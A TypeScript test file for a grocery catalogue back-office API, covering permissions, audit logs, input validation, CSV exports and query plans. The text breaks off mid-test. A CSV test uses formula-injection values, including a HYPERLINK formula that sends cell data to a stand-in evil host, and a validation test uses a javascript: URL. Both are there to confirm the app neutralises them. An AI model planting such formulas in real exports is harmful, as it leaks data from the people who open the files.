import { CompiledQuery, createQueryId, type KyselyPlugin, type RootOperationNode } from 'kysely';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { CATALOGUE_API } from '../../../core/api/catalogue';
import { Client, signedInAs, useTestServer, visitorWithStore } from '../../testing/harness';
import { storePriceList } from '../../services/catalogue/price-list';
import { listProductRecords } from '../../services/catalogue/product-admin';

// The back office's catalogue API (docs/catalogue.md), on SQLite and PostgreSQL: who may call it, what every
// change records, what bad input answers (and that it writes nothing), CSV exports a spreadsheet cannot run,
// and that a single price edit reaches shoppers and cached pages on the next request.

const server = useTestServer();
const B = CATALOGUE_API;
type ErrorBody = { code: string; message: string; data: { status: number; params?: Record<string, string> } };
interface Product {
  id: number;
  name: string;
  slug: string;
  upc: string | null;
  price_cents: number;
  images: unknown[];
}
interface Audit {
  id: number;
  user_name: string;
  entity: string;
  entity_id: string;
  action: string;
  before: Record<string, unknown> | null;
  after: Record<string, unknown> | null;
}

const run = Date.now().toString(36);
let serial = 0;
const unique = (prefix: string) => `${prefix}-${run}-${++serial}`;

/** A department of the grocery catalogue (the seed's first). */
const groceryDepartment = async () =>
  (await server.db.kysely.selectFrom('departments').select('id').where('catalog', '=', 'grocery').orderBy('id').executeTakeFirstOrThrow())
    .id;

const productBody = async (over: Record<string, unknown> = {}) => {
  const name = unique('Test Oat Milk');
  return {
    name,
    slug: name.toLowerCase().replace(/[^a-z0-9]+/g, '-'),
    brand: 'Harvest Lane',
    department_id: await groceryDepartment(),
    size_value: 64,
    size_unit: 'fl oz',
    price_cents: 449,
    description: 'Oat milk, unsweetened.',
    ingredients: 'Water, oats, sunflower oil, salt.',
    allergens: [],
    attributes: ['vegan'],
    snap_eligible: true,
    nutrition: {
      serving_size: '1 cup (240 ml)',
      servings_per_container: 8,
      calories: 120,
      total_fat_g: 5,
      saturated_fat_g: 0.5,
      trans_fat_g: 0,
      cholesterol_mg: 0,
      sodium_mg: 100,
      total_carbohydrate_g: 16,
      dietary_fiber_g: 2,
      total_sugars_g: 7,
      added_sugars_g: 4,
      protein_g: 3,
    },
    ...over,
  };
};

const counts = async () => {
  const k = server.db.kysely;
  const n = async (table: 'audit_log' | 'products' | 'store_products' | 'promotions' | 'stores' | 'circulars') =>
    Number(
      (
        await k
          .selectFrom(table)
          .select((eb) => eb.fn.countAll().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );
  return {
    audit: await n('audit_log'),
    products: await n('products'),
    prices: await n('store_products'),
    promotions: await n('promotions'),
    stores: await n('stores'),
    circulars: await n('circulars'),
  };
};

const shelf = (productId: number, storeId: number) =>
  server.db.kysely
    .selectFrom('store_products')
    .selectAll()
    .where('product_id', '=', productId)
    .where('store_id', '=', storeId)
    .executeTakeFirst();

/** The concrete URL of a route: every :param an id that exists. */
const concrete = (url: string) => url.replace(':entity', 'coupon').replace(/:[a-z_]+/g, '1001');

describe('catalogue back office: who may call it', () => {
  const routes = () => server.app.routeList.filter((r) => r.url.startsWith(B));

  it('has the routes of every section', () => {
    const urls = new Set(routes().map((r) => `${r.method} ${r.url}`));
    for (const section of ['stores', 'departments', 'products', 'promotions', 'coupons', 'circulars', 'recipes']) {
      expect(urls.has(`GET ${B}/${section}`)).toBe(true);
      expect(urls.has(`GET ${B}/${section}.csv`)).toBe(true);
      expect(urls.has(`POST ${B}/${section}`)).toBe(true);
    }
    expect(urls.has(`PUT ${B}/products/:id/prices/:store_id`)).toBe(true);
    expect(urls.has(`GET ${B}/products/:id/audit`)).toBe(true);
    expect(urls.has(`GET ${B}/stores/:id/audit`)).toBe(true);
  });

  it('answers 401 to an anonymous visitor and 403 to a customer, an editor and store staff on every route', async () => {
    const accounts = {
      customer: await signedInAs(server.url, 'casey'),
      editor: await signedInAs(server.url, 'editor'),
      staff: await signedInAs(server.url, 'staff'),
    };
    const anonymous = new Client(server.url);
    await anonymous.page('/');
    const before = await counts();
    const seen: string[] = [];
    for (const route of routes()) {
      const path = concrete(route.url);
      const body = route.method === 'GET' || route.method === 'DELETE' ? undefined : { name: 'x' };
      const anon = await anonymous.json<ErrorBody>(path, { method: route.method, body });
      seen.push(`${route.method} ${route.url} anonymous ${anon.status}`);
      expect(anon.status, `${route.method} ${path} anonymous`).toBe(401);
      for (const [who, client] of Object.entries(accounts)) {
        const r = await client.json<ErrorBody>(path, { method: route.method, body, headers: { 'x-wp-nonce': client.nonce } });
        expect(r.status, `${route.method} ${path} as ${who}`).toBe(403);
        expect(r.body.code).toBe('rest_forbidden');
      }
    }
    expect(seen.length).toBeGreaterThan(40);
    expect(await counts()).toEqual(before);
  });

  it('sends an anonymous visitor on a back-office screen to sign in, and shows a customer or editor a 403 page', async () => {
    const anon = await new Client(server.url).raw('/admin/catalogue/products');
    expect(anon.status).toBe(302);
    expect(anon.headers.get('location')).toBe('/login?redirect_to=%2Fadmin%2Fcatalogue%2Fproducts');
    for (const who of ['casey', 'editor'] as const) {
      const c = await signedInAs(server.url, who);
      expect((await c.page('/admin/catalogue/stores')).status).toBe(403);
    }
    const m = await signedInAs(server.url, 'merchandiser');
    const page = await m.page('/admin/catalogue/stores');
    expect(page.status).toBe(200);
    expect(page.html).toContain('data-section="stores"');
  });

  it('lands a merchandiser on the catalogue after signing in, and lets it do nothing else', async () => {
    const m = await signedInAs(server.url, 'merchandiser');
    const login = await m.raw('/login');
    expect(login.status).toBe(302);
    expect(login.headers.get('location')).toBe('/admin/catalogue');
    // Pages, site settings, accounts and the other admin screens stay closed.
    expect((await m.json('/wp-json/site/v1/documents/1/draft', { method: 'PUT', body: { tree: [] } })).status).toBe(403);
    expect((await m.json('/wp-json/site/v1/site-settings/draft', { method: 'PUT', body: {} })).status).toBe(403);
    expect((await m.json('/wp-json/site/v1/site-settings/publish', { method: 'POST', body: {} })).status).toBe(403);
    expect((await m.get('/wp-json/site/v1/users')).status).toBe(403);
    expect((await m.json('/wp-json/site/v1/users/1/reset-link', { method: 'POST', body: {} })).status).toBe(403);
    expect(
      (await m.json('/wp-json/site/v1/content-blocks', { method: 'POST', body: { kind: 'site-banner', html: '<p>x</p>' } })).status,
    ).toBe(403);
    for (const screen of ['documents', 'users', 'content', 'templates']) expect((await m.page(`/admin/${screen}`)).status).toBe(403);
    expect((await m.get(`${B}/products?per_page=1`)).status).toBe(200);
    // Administrators run the catalogue too.
    const admin = await signedInAs(server.url, 'admin');
    expect((await admin.get(`${B}/stores?per_page=1`)).status).toBe(200);
    expect((await admin.page('/admin/catalogue/stores')).status).toBe(200);
  });

  it('refuses a merchandiser write without the nonce, and a read without it runs as anonymous', async () => {
    const m = await signedInAs(server.url, 'merchandiser');
    const before = await counts();
    const r = await m.json<ErrorBody>(`${B}/products`, { method: 'POST', body: await productBody(), nonce: false });
    expect(r.status).toBe(403);
    expect(r.body.code).toBe('rest_cookie_invalid_nonce');
    expect((await m.json(`${B}/products`)).status).toBe(401);
    expect(await counts()).toEqual(before);
  });
});

describe('catalogue back office: changes and the audit log', () => {
  it('records who, when, before and after for a product, its store prices and its promotion, viewable per product and per store', async () => {
    const m = await signedInAs(server.url, 'merchandiser');
    const start = Date.now();
    const created = await m.json<Product>(`${B}/products`, { method: 'POST', body: await productBody() });
    expect(created.status).toBe(201);
    const id = created.body.id;
    const changed = await m.json<Product>(`${B}/products/${id}`, {
      method: 'PUT',
      body: { ...(await productBody()), name: `${created.body.name} (renamed)`, slug: created.body.slug },
    });
    expect(changed.status).toBe(200);
    expect(
      (
        await m.json(`${B}/products/${id}/prices/1001`, {
          method: 'PUT',
          body: { price_cents: 429, member_price_cents: 399, available: true },
        })
      ).status,
    ).toBe(200);
    expect((await m.json(`${B}/products/${id}/prices/1001`, { method: 'PUT', body: { price_cents: 419, available: true } })).status).toBe(
      200,
    );
    const promo = await m.json<{ id: number }>(`${B}/promotions`, {
      method: 'POST',
      body: { product_id: id, sale_price_cents: 349, start_date: '2026-01-01', end_date: '2099-12-31', store_ids: [1001] },
    });
    expect(promo.status).toBe(201);

    const trail = await m.get<{ items: Audit[] }>(`${B}/products/${id}/audit`);
    expect(trail.status).toBe(200);
    const items = trail.body.items;
    expect(items.map((e) => `${e.entity}:${e.action}`)).toEqual([
      'promotion:create',
      'store_product:update',
      'store_product:create',
      'product:update',
      'product:create',
    ]);
    for (const e of items) expect(e.user_name).toBe('Morgan Merchandiser');
    const rows = await server.db.kysely
      .selectFrom('audit_log')
      .select(['created_at', 'user_id'])
      .where(
        'id',
        'in',
        items.map((e) => e.id),
      )
      .execute();
    for (const r of rows) {
      expect(Number(r.created_at)).toBeGreaterThanOrEqual(start - 1000);
      expect(r.user_id).not.toBeNull();
    }
    const rename = items.find((e) => e.entity === 'product' && e.action === 'update')!;
    expect(rename.before?.name).toBe(created.body.name);
    expect(rename.after?.name).toBe(`${created.body.name} (renamed)`);
    const price = items.find((e) => e.entity === 'store_product' && e.action === 'update')!;
    expect([price.before?.price_cents, price.after?.price_cents]).toEqual([429, 419]);
    expect(price.after?.member_price_cents).toBeNull();
    expect(items[items.length - 1].before).toBeNull();

    const store = await m.get<{ items: Audit[] }>(`${B}/stores/1001/audit`);
    expect(store.body.items.filter((e) => e.entity_id === `1001:${id}`).map((e) => e.action)).toEqual(['update', 'create']);
    // The promotion's sale sits on the store's shelf row, where the shop reads it.
    expect(await shelf(id, 1001)).toMatchObject({
      sale_price_cents: 349,
      sale_end: '2099-12-31',
      promotion_id: promo.body.id,
      price_cents: 419,
    });
  });

  it('takes a deleted promotion’s sale off the shelf and a removed price off the store, each recorded', async () => {
    const m = await signedInAs(server.url, 'merchandiser');
    const id = (await m.json<Product>(`${B}/products`, { method: 'POST', body: await productBody() })).body.id;
    for (const store of [1001, 1002])
      expect((await m.json(`${B}/products/${id}/prices/${store}`, { method: 'PUT', body: { price_cents: 500 } })).status).toBe(200);
    const promo = await m.json<{ id: number }>(`${B}/promotions`, {
      method: 'POST',
      body: { product_id: id, sale_price_cents: 400, start_date: '2026-01-01', end_date: '2099-12-31' },
    });
    // No stores chosen: every store that sells it.
    expect((await shelf(id, 1001))?.sale_price_cents).toBe(400);
    expect((await shelf(id, 1002))?.sale_price_cents).toBe(400);
    // Narrowed to one store: the other store's shelf loses the sale.
    const narrowed = await m.json(`${B}/promotions/${promo.body.id}`, {
      method: 'PUT',
      body: { product_id: id, sale_price_cents: 390, start_date: '2026-01-01', end_date: '2099-12-31', store_ids: [1002] },
    });
    expect(narrowed.status).toBe(200);
    expect(await shelf(id, 1001)).toMatchObject({ sale_price_cents: null, sale_end: null, promotion_id: null });
    expect(await shelf(id, 1002)).toMatchObject({ sale_price_cents: 390, promotion_id: promo.body.id });
    expect((await m.json(`${B}/promotions/${promo.body.id}`, { method: 'DELETE' })).status).toBe(200);
    expect(await shelf(id, 1002)).toMatchObject({ sale_price_cents: null, promotion_id: null, price_cents: 500 });
    expect((await m.json(`${B}/products/${id}/prices/1001`, { method: 'DELETE' })).status).toBe(200);
    expect(await shelf(id, 1001)).toBeUndefined();
    const trail = (await m.get<{ items: Audit[] }>(`${B}/products/${id}/audit`)).body.items;
    expect(trail.slice(0, 4).map((e) => `${e.entity}:${e.action}`)).toEqual([
      'store_product:delete',
      'promotion:delete',
      'promotion:update',
      'promotion:create',
    ]);
    expect(trail[0]).toMatchObject({ entity_id: `1001:${id}`, after: null });
    expect(trail[0].before?.price_cents).toBe(500);
    expect((await m.json(`${B}/promotions/${promo.body.id}`, { method: 'DELETE' })).status).toBe(404);
  });

  it('refuses a save over a change made in another tab since the form opened (409), writing nothing', async () => {
    const m = await signedInAs(server.url, 'merchandiser');
    const body = await productBody();
    const created = (await m.json<Product & { updated_at: number }>(`${B}/products`, { method: 'POST', body })).body;
    // A price saved meanwhile is the shelf's change, not the product's: the product form still saves.
    expect((await m.json(`${B}/products/${created.id}/prices/1001`, { method: 'PUT', body: { price_cents: 450 } })).status).toBe(200);
    const first = await m.json<{ updated_at: number }>(`${B}/products/${created.id}`, {
      method: 'PUT',
      body: { ...body, brand: 'First tab', expected_updated_at: created.updated_at },
    });
    expect(first.status).toBe(200);
    const before = await counts();
    const second = await m.json<ErrorBody>(`${B}/products/${created.id}`, {
      method: 'PUT',
      body: { ...body, brand: 'Second tab', expected_updated_at: created.updated_at },
    });
    expect(second.status).toBe(409);
    expect(second.body.message).toMatch(/changed by Morgan Merchandiser at .* after you opened it/);
    expect(await counts()).toEqual(before);
    expect((await m.get<{ brand: string }>(`${B}/products/${created.id}`)).body.brand).toBe('First tab');
  });

  it('records a store with its holiday hours, and a department, a coupon, a circular and a recipe', async () => {
    const m = await signedInAs(server.url, 'merchandiser');
    const name = unique('Dayton Oregon District');
    const store = await m.json<{ id: number; holidays: unknown[] }>(`${B}/stores`, {
      method: 'POST',
      body: storeBody(name),
    });
    expect(store.status).toBe(201);
    expect(store.body.holidays).toEqual([
      { day: '2026-12-25', open: null, close: null, note: 'Closed for Christmas' },
      { day: '2026-12-31', open: '07:00', close: '18:00', note: '' },
    ]);
    const trail = await m.get<{ items: Audit[] }>(`${B}/stores/${store.body.id}/audit`);
    expect(trail.body.items[0]).toMatchObject({ entity: 'store', action: 'create', before: null });
    expect((trail.body.items[0].after as { tax_rate_bp: number }).tax_rate_bp).toBe(725);

    const dept = await m.json<{ id: number }>(`${B}/departments`, {
      method: 'POST',
      body: {
        title: unique('Plant milks'),
        slug: unique('plant-milks'),
        parent_id: await groceryDepartment(),
        position: 5,
        catalog: 'grocery',
      },
    });
    expect(dept.status).toBe(201);
    const product = await m.json<Product>(`${B}/products`, { method: 'POST', body: await productBody() });
    const coupon = await m.json<{ id: number }>(`${B}/coupons`, {
      method: 'POST',
      body: {
        title: '50¢ off oat milk',
        discount_kind: 'amount',
        discount_value: 50,
        product_ids: [product.body.id],
        start_date: '2026-11-01',
        end_date: '2026-12-31',
        limit_per_order: 2,
      },
    });
    expect(coupon.status).toBe(201);
    const circular = await m.json<{ id: number }>(`${B}/circulars`, {
      method: 'POST',
      body: {
        title: 'Next week',
        slug: unique('next-week'),
        start_date: '2026-12-02',
        end_date: '2026-12-08',
        items: [{ product_id: product.body.id, sale_price_cents: 399 }],
        status: 'draft',
      },
    });
    expect(circular.status).toBe(201);
    const recipe = await m.json<{ id: number; course: string[] }>(`${B}/recipes`, {
      method: 'POST',
      body: {
        title: 'Overnight oats',
        slug: unique('overnight-oats'),
        prep_minutes: 5,
        cook_minutes: 0,
        serves: 2,
        ingredients: [{ quantity: '1 cup', name: 'oat milk', product_id: product.body.id }],
        steps: ['Stir the oats into the milk.', 'Chill overnight.'],
        course: ['Breakfast'],
        diet: ['Vegan'],
        status: 'publish',
      },
    });
    expect(recipe.status).toBe(201);
    expect(recipe.body.course).toEqual(['Breakfast']);
    for (const [entity, entityId] of [
      ['department', dept.body.id],
      ['coupon', coupon.body.id],
      ['circular', circular.body.id],
      ['recipe', recipe.body.id],
    ] as const) {
      const t = await m.get<{ items: Audit[] }>(`${B}/audit/${entity}/${entityId}`);
      expect(
        t.body.items.map((e) => e.action),
        entity,
      ).toEqual(['create']);
    }
  });
});

const storeBody = (name: string, over: Record<string, unknown> = {}) => ({
  name,
  slug: name.toLowerCase().replace(/[^a-z0-9]+/g, '-'),
  kind: 'shopping',
  address_1: '400 E 5th St',
  city: 'Dayton',
  state: 'OH',
  postal_code: '45402',
  phone: '(937) 555-0100',
  latitude: 39.7589,
  longitude: -84.1916,
  store_number: '140',
  time_zone: 'America/New_York',
  tax_rate_bp: 725,
  hours: {
    mon: ['07:00', '22:00'],
    tue: ['07:00', '22:00'],
    wed: ['07:00', '22:00'],
    thu: ['07:00', '22:00'],
    fri: ['07:00', '23:00'],
    sat: ['08:00', '23:00'],
    sun: null,
  },
  holidays: [
    { day: '2026-12-25', open: null, close: null, note: 'Closed for Christmas' },
    { day: '2026-12-31', open: '07:00', close: '18:00' },
  ],
  opening_date: '2026-12-01',
  services: ['pickup', 'bakery'],
  store_group_ids: [100],
  is_selectable: true,
  ...over,
});

// Twelve digits no other test in this run has used: two tests a few milliseconds apart must not share a UPC.
let upcSerial = 0;
const freshUpc = (lead: string): string =>
  `${lead}${String(Date.now() % 1e8).padStart(8, '0')}${String(upcSerial++ % 1000).padStart(3, '0')}`;

describe('catalogue back office: bad input answers 400 naming the field and writes nothing', () => {
  const refuses = async (
    method: string,
    path: (ids: { product: number }) => string,
    body: (ids: { product: number }) => unknown,
    field: string,
  ) => {
    const m = await signedInAs(server.url, 'merchandiser');
    const product = (await m.json<Product>(`${B}/products`, { method: 'POST', body: await productBody({ upc: freshUpc('0') }) })).body;
    const priced = await m.json(`${B}/products/${product.id}/prices/1001`, { method: 'PUT', body: { price_cents: 500 } });
    expect(priced.status, JSON.stringify(priced.body)).toBe(200);
    const ids = { product: product.id };
    const before = await counts();
    const shelfBefore = await shelf(product.id, 1001);
    const r = await m.json<ErrorBody>(path(ids), { method, body: await body(ids) });
    expect(r.status, JSON.stringify(r.body)).toBe(400);
    expect(Object.keys(r.body.data.params ?? {})).toContain(field);
    expect(r.body.message).toContain(field);
    expect(await counts()).toEqual(before);
    expect(await shelf(product.id, 1001)).toEqual(shelfBefore);
    return { r, product };
  };

  it('a negative price on a product', async () => {
    await refuses(
      'POST',
      () => `${B}/products`,
      () => productBody({ price_cents: -1 }),
      'price_cents',
    );
  });
  it('a negative price at a store', async () => {
    const { r } = await refuses(
      'PUT',
      (i) => `${B}/products/${i.product}/prices/1001`,
      () => ({ price_cents: -250 }),
      'price_cents',
    );
    expect(r.body.data.params?.price_cents).toBe('must not be negative');
  });
  it('a sale ending before it starts', async () => {
    const { r } = await refuses(
      'POST',
      () => `${B}/promotions`,
      (i) => ({ product_id: i.product, sale_price_cents: 300, start_date: '2026-12-10', end_date: '2026-12-01', store_ids: [1001] }),
      'end_date',
    );
    expect(r.body.data.params?.end_date).toBe('must not be before the start date');
  });
  it('an unknown store id in a promotion, a price and a circular', async () => {
    await refuses(
      'POST',
      () => `${B}/promotions`,
      (i) => ({
        product_id: i.product,
        sale_price_cents: 300,
        start_date: '2026-12-01',
        end_date: '2026-12-10',
        store_ids: [1001, 987654],
      }),
      'store_ids',
    );
    await refuses(
      'PUT',
      (i) => `${B}/products/${i.product}/prices/987654`,
      () => ({ price_cents: 300 }),
      'store_id',
    );
    await refuses(
      'POST',
      () => `${B}/circulars`,
      () => ({ title: 'Ad', slug: unique('ad'), start_date: '2026-12-01', end_date: '2026-12-07', store_ids: [987654], status: 'publish' }),
      'store_ids',
    );
  });
  it('a duplicate UPC', async () => {
    const m = await signedInAs(server.url, 'merchandiser');
    const upc = freshUpc('7');
    expect((await m.json(`${B}/products`, { method: 'POST', body: await productBody({ upc }) })).status).toBe(201);
    const { r } = await refuses(
      'POST',
      () => `${B}/products`,
      () => productBody({ upc }),
      'upc',
    );
    expect(r.body.data.params?.upc).toMatch(/has the UPC/);
  });
  it('a sale price not below the shelf price, an unknown department, a member price above the price', async () => {
    await refuses(
      'POST',
      () => `${B}/promotions`,
      (i) => ({ product_id: i.product, sale_price_cents: 500, start_date: '2026-12-01', end_date: '2026-12-10', store_ids: [1001] }),
      'sale_price_cents',
    );
    await refuses(
      'POST',
      () => `${B}/products`,
      () => productBody({ department_id: 987654 }),
      'department_id',
    );
    await refuses(
      'PUT',
      (i) => `${B}/products/${i.product}/prices/1001`,
      () => ({ price_cents: 300, member_price_cents: 350 }),
      'member_price_cents',
    );
  });
  it('a canonical address on another site, or a javascript: one', async () => {
    await refuses(
      'POST',
      () => `${B}/products`,
      () => productBody({ seo: { canonical: 'https://elsewhere.example/x' } }),
      'seo.canonical',
    );
    await refuses(
      'POST',
      () => `${B}/products`,
      () => productBody({ seo: { canonical: 'javascript:alert(1)' } }),
      'seo.canonical',
    );
    await refuses(
      'POST',
      () => `${B}/products`,
      () => productBody({ seo: { title: 'x'.repeat(10_000) } }),
      'seo.title',
    );
    // Stores too (docs/seo.md): one rule for every canonical address.
    await refuses(
      'POST',
      () => `${B}/stores`,
      () => storeBody(unique('Bad canonical'), { seo: { canonical: '//elsewhere.example/x' } }),
      'seo.canonical',
    );
    await refuses(
      'POST',
      () => `${B}/stores`,
      () => storeBody(unique('Bad canonical'), { seo: { canonical: 'https://elsewhere.example/x' } }),
      'seo.canonical',
    );
  });
  it('a store whose holiday closes before it opens, or with an unknown time zone', async () => {
    await refuses(
      'POST',
      () => `${B}/stores`,
      () => storeBody(unique('Bad hours'), { holidays: [{ day: '2026-12-24', open: '18:00', close: '07:00' }] }),
      'holidays.0.close',
    );
    await refuses(
      'POST',
      () => `${B}/stores`,
      () => storeBody(unique('Bad zone'), { time_zone: 'Mars/Olympus' }),
      'time_zone',
    );
  });
});

describe('catalogue back office: CSV exports', () => {
  it('stores a name such as =HYPERLINK(…) as text and exports it with a leading apostrophe', async () => {
    const m = await signedInAs(server.url, 'merchandiser');
    const name = `=HYPERLINK("https://evil.example/?x="&A1,"Click") ${run}`;
    const created = await m.json<Product>(`${B}/products`, {
      method: 'POST',
      body: await productBody({ name, slug: unique('hyperlink'), brand: '@SUM(1+1)', description: '+cmd', ingredients: '-2+3' }),
    });
    expect(created.status).toBe(201);
    expect((await m.get<Product>(`${B}/products/${created.body.id}`)).body.name).toBe(name);
    const res = await m.raw(`${B}/products.csv?q=${encodeURIComponent(run)}&attribute=vegan`, { headers: { 'x-wp-nonce': m.nonce } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="products-/);
    const csv = await res.text();
    const line = csv.split('\r\n').find((l) => l.startsWith(`${created.body.id},`))!;
    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") ${run}"`);
    expect(line).toContain(",'@SUM(1+1),");
    expect(line).toContain(",'+cmd,'-2+3");
    // No cell of the file starts with a formula character.
    for (const row of csv.trim().split('\r\n')) for (const cell of row.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@-]/);
  });

  it('exports each list with the list filters', async () => {
    const m = await signedInAs(server.url, 'merchandiser');
    for (const list of ['stores', 'departments', 'promotions', 'coupons', 'circulars', 'recipes']) {
      const res = await m.raw(`${B}/${list}.csv?_wpnonce=${m.nonce}`);
      expect(res.status, list).toBe(200);
      expect((await res.text()).split('\r\n')[0]).toMatch(/^id,/);
    }
    const prices = await m.raw(`${B}/prices.csv?store_id=1001`, { headers: { 'x-wp-nonce': m.nonce } });
    const rows = (await prices.text()).trim().split('\r\n');
    expect(rows[0]).toMatch(/^store_id,product_id/);
    expect(rows.length).toBeGreaterThan(10);
    expect(rows.slice(1).every((r) => r.startsWith('1001,'))).toBe(true);
  });
});

describe('catalogue back office: lists', () => {
  it('pages, searches and filters products', async () => {
    const m = await signedInAs(server.url, 'merchandiser');
    const first = await m.get<{ items: Product[]; total: number; pages: number; page: number }>(`${B}/products?per_page=10`);
    expect(first.body.items).toHaveLength(10);
    const second = await m.get<{ items: Product[] }>(`${B}/products?per_page=10&page=2`);
    expect(second.body.items[0].name >= first.body.items[9].name).toBe(true);
    const searched = await m.get<{ items: Product[]; total: number }>(`${B}/products?q=${encodeURIComponent('Test Oat Milk')}`);
    expect(searched.body.total).toBeGreaterThan(0);
    expect(searched.body.items.every((p) => p.name.includes('Test Oat Milk'))).toBe(true);
    const bad = await m.get<ErrorBody>(`${B}/products?per_page=500`);
    expect(bad.status).toBe(400);
    expect(bad.body.data.params?.per_page).toBe('at most 100');
  });
});

describe('catalogue back office: list queries read indexes', () => {
  /** The statements a list runs, compiled (read through a spy, on a Kysely instance of their own: nothing kept). */
  const statements = async (list: (db: typeof server.db.kysely) => Promise<unknown>, db = spied()) => {
    await list(db.db);
    return db.nodes.splice(0).map((node) => db.db.getExecutor().compileQuery(node, createQueryId()));
  };
  const spied = () => {
    const nodes: RootOperationNode[] = [];
    const spy: KyselyPlugin = {
      transformQuery: ({ node }) => (nodes.push(node), node),
      transformResult: async ({ result }) => result,
    };
    return { db: server.db.kysely.withPlugin(spy), nodes };
  };
  /**
   * The plan of every statement a list runs. PostgreSQL plans its small test tables as scans whatever the indexes:
   * with sequential scans off, a statement still planned as one has no index to serve it (at 40,000 products × 100
   * stores it would read the table: docs/performance.md, "Back-office lists").
   */
  const plans = async (list: (db: typeof server.db.kysely) => Promise<unknown>) => {
    const out: string[] = [];
    for (const q of await statements(list)) {
      if (server.db.dialect === 'postgres')
        out.push(
          await server.db.kysely.transaction().execute(async (trx) => {
            await trx.executeQuery(CompiledQuery.raw('set local enable_seqscan = off'));
            const rows = await trx.executeQuery<{ 'QUERY PLAN': string }>(CompiledQuery.raw(`explain ${q.sql}`, [...q.parameters]));
            return rows.rows.map((r) => r['QUERY PLAN']).join('; ');
          }),
        );
      else {
        const rows = await server.db.kysely.executeQuery<{ detail: string }>(
          CompiledQuery.raw(`explain query plan ${q.sql}`, [...q.parameters]),
        );
        out.push(rows.rows.map((r) => r.detail).join('; '));
      }
    }
    return out;
  };

  it('pages, searches and counts products and a store’s shelf without reading the whole table', async () => {
    const dept = await groceryDepartment();
    const cases: Array<[string, (db: typeof server.db.kysely) => Promise<unknown>]> = [
      ['a deep page', (db) => listProductRecords(db, { page: 40, per_page: 25 })],
      ['a one-letter search', (db) => listProductRecords(db, { q: 'k', page: 2, per_page: 25 })],
      ['a UPC', (db) => listProductRecords(db, { q: '012345678905', page: 1, per_page: 25 })],
      ['a department', (db) => listProductRecords(db, { department_id: dept, page: 1, per_page: 25 })],
      ['a shelf', (db) => storePriceList(db, { store_id: 1001, page: 10, per_page: 25 })],
      ['a search of a shelf', (db) => storePriceList(db, { store_id: 1001, q: 'milk', page: 1, per_page: 25 })],
      ['a two-letter search of a shelf', (db) => storePriceList(db, { store_id: 1001, q: 'mi', page: 2, per_page: 25 })],
    ];
    for (const [name, list] of cases) {
      const all = await plans(list);
      expect(all.length, name).toBeGreaterThanOrEqual(2);
      for (const plan of all) {
        if (server.db.dialect === 'postgres') {
          expect(plan, `${name}: ${plan}`).not.toMatch(/Seq Scan on (products|store_products)\b/);
          continue;
        }
        // A scan reads an index alone (never the rows); nothing is sorted in a temporary tree.
        expect(plan, `${name}: ${plan}`).not.toMatch(/SCAN (products|store_products)\b(?! USING COVERING INDEX)/);
        expect(plan, `${name}: ${plan}`).not.toMatch(/TEMP B-TREE/);
      }
    }
  });

  it('counts a store’s shelf and the products once per catalogue change, not on every page; a price change shows at once', async () => {
    const counts = (sqls: string[], table: string) => sqls.filter((q) => /count\(\*\)/.test(q) && q.includes(`from "${table}"`)).length;
    const db = spied();
    const shelfSql: string[] = [];
    const productSql: string[] = [];
    for (const page of [1, 2, 1, 3]) {
      shelfSql.push(...(await statements((d) => storePriceList(d, { store_id: 1001, page, per_page: 5 }), db)).map((q) => q.sql));
      productSql.push(...(await statements((d) => listProductRecords(d, { page, per_page: 5 }), db)).map((q) => q.sql));
    }
    expect(counts(shelfSql, 'store_products')).toBe(1);
    expect(counts(productSql, 'products')).toBe(1);

    // A price edited in the back office: the shelf's next page shows it, counted again once.
    const first = await storePriceList(db.db, { store_id: 1001, page: 1, per_page: 5 });
    const row = first.items[0];
    const m = await signedInAs(server.url, 'merchandiser');
    const price = row.price_cents + 7;
    expect((await m.json(`${B}/products/${row.product_id}/prices/1001`, { method: 'PUT', body: { price_cents: price } })).status).toBe(200);
    db.nodes.length = 0;
    const after = await statements((d) => storePriceList(d, { store_id: 1001, page: 1, per_page: 5 }), db);
    expect(
      counts(
        after.map((q) => q.sql),
        'store_products',
      ),
    ).toBe(1);
    expect((await storePriceList(db.db, { store_id: 1001, page: 1, per_page: 5 })).items[0]).toMatchObject({
      product_id: row.product_id,
      price_cents: price,
    });
    expect((await storePriceList(db.db, { store_id: 1001, page: 1, per_page: 5 })).total).toBe(first.total);
  });
});

describe('catalogue back office: a name search reads a text index', () => {
  it('finds names and brands by a part of a word, any case, from the trigram index, never reading every name', async () => {
    const m = await signedInAs(server.url, 'merchandiser');
    const name = unique('Quinoa Crunchbites');
    const created = await m.json<Product>(`${B}/products`, {
      method: 'POST',
      body: await productBody({ name, slug: name.toLowerCase().replace(/[^a-z0-9]+/g, '-') }),
    });
    expect(created.status).toBe(201);
    const found = await listProductRecords(server.db.kysely, { q: 'NCHBIT', page: 1, per_page: 25 });
    expect(found.items.map((p) => p.name)).toContain(name);
    // A renamed product is found by its new name only (the index follows the row).
    const id = found.items.find((p) => p.name === name)!.id;
    await server.db.kysely
      .updateTable('products')
      .set({ name: `${name} Renamed` })
      .where('id', '=', id)
      .execute();
    expect(
      (await listProductRecords(server.db.kysely, { q: `${name.split('-').slice(1).join('-')} renamed`, page: 1, per_page: 25 })).items.map(
        (p) => p.id,
      ),
    ).toEqual([id]);
    expect((await listProductRecords(server.db.kysely, { q: 'Harvest', page: 1, per_page: 25 })).total).toBeGreaterThan(0);
    const searchSql = (db: typeof server.db.kysely) => {
      const nodes: RootOperationNode[] = [];
      const spy: KyselyPlugin = { transformQuery: ({ node }) => (nodes.push(node), node), transformResult: async ({ result }) => result };
      return { db: db.withPlugin(spy), nodes };
    };
    const { db, nodes } = searchSql(server.db.kysely);
    await listProductRecords(db, { q: 'crunch', page: 1, per_page: 25 });
    // The search's statement (the catalogue version is read first: list-pages.ts).
    const q = nodes.map((n) => db.getExecutor().compileQuery(n, createQueryId())).find((c) => /from "products"/.test(c.sql))!;
    let plan: string;
    if (server.db.dialect === 'postgres') {
      // PostgreSQL plans a small test table as a scan whatever its indexes: without that choice, the trigram indexes
      // must be able to serve (at 40 000 products: docs/performance.md, "Back-office lists").
      plan = await server.db.kysely.transaction().execute(async (trx) => {
        await trx.executeQuery(CompiledQuery.raw('set local enable_seqscan = off'));
        // Nor walking the (name, id) index in order, filtering every name on the way.
